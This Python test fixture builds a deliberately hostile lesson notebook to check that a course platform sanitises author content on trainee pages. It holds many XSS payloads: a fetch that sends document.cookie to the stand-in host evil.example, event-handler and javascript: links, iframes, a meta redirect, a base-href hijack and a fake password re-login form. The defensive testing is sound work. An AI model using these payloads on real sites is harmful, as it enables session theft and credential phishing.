"""A lesson of somebody who means harm: all that an author's notebook could try in a trainee's page."""

from __future__ import annotations

import base64
import json
from dataclasses import replace

from campus_server import PROBE, content
from notebooks import code_cell, markdown_cell, notebook_of

from congvu.content.bundle import Bundle, LessonBundle
from congvu.content.canonical import digest_text
from congvu.content.markdown import anchor
from congvu.services.authoring.publishing import PreparedLessons
from congvu.services.lesson_pages import own_cells
from congvu.store.lesson_pages import ShownLesson

HIT = "window.hit = 1; fetch('//evil.example/?' + document.cookie)"
TRICKS = f"""
<script>{HIT}</script>
<script src="//evil.example/a.js"></script>
<img src=x onerror="{HIT}">
<img src="//evil.example/a.png">
<iframe src="//evil.example/"></iframe><iframe srcdoc="<script>{HIT}</script>"></iframe>
<a class="trick" href="javascript:{HIT}">một</a>
<a class="trick" href="data:text/html,<script>{HIT}</script>">hai</a>
<a class="trick" href="//evil.example/">ba</a>
<svg onload="{HIT}"><script>{HIT}</script><image href="//evil.example/a.svg" /></svg>
<style>body {{ background: url(//evil.example/a.gif) }}</style>
<p style="background: url(//evil.example/b.gif)">bốn</p>
<meta http-equiv="refresh" content="0; url=//evil.example/">
<base href="//evil.example/">
<link rel="stylesheet" href="//evil.example/a.css">
<form action="//evil.example/"><input name="password"><button>Đăng nhập lại</button></form>
<details open ontoggle="{HIT}"><summary>năm</summary></details>
<div id="lesson" data-lesson="{{}}">sáu</div>
"""
MARKDOWN = f"""# Bài xấu

## Mục xấu

{TRICKS}

[bảy](javascript:{HIT.replace(" ", "")}) ![tám](//evil.example/c.png) <https://evil.example> $$<img src=x onerror="{HIT}">$$

![chín](attachment:a.svg) ![mười](attachment:b.html)

Chữ ở cuối bài.
"""
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script></svg>'


def hostile_lesson() -> tuple[Bundle, PreparedLessons]:
    """The content with the lesson ``03-xau`` in the probe's course, and what its cell is said to have shown."""
    coded = {
        name: base64.b64encode(text.encode()).decode() for name, text in (("svg", SVG), ("html", TRICKS))
    }
    attachments = {"a.svg": {"image/svg+xml": coded["svg"]}, "b.html": {"text/html": coded["html"]}}
    notebook = json.dumps(
        notebook_of({**markdown_cell(MARKDOWN), "attachments": attachments}, code_cell("show()"))
    )
    (cell,) = own_cells(notebook)
    shown = [{"output_type": "display_data", "data": {"text/html": TRICKS}}]
    title = f"</title><script>{HIT}</script>"
    lesson = LessonBundle("03-xau", title, 1, notebook, ((anchor("Mục xấu"), "Mục xấu"),), ())
    whole = content()
    courses = tuple(
        replace(course, lessons=(*course.lessons, lesson)) if course.course_id == PROBE else course
        for course in whole.courses
    )
    kept = {digest_text(notebook): ShownLesson({cell: shown}, live=False)}
    return replace(whole, courses=courses), PreparedLessons(kept)
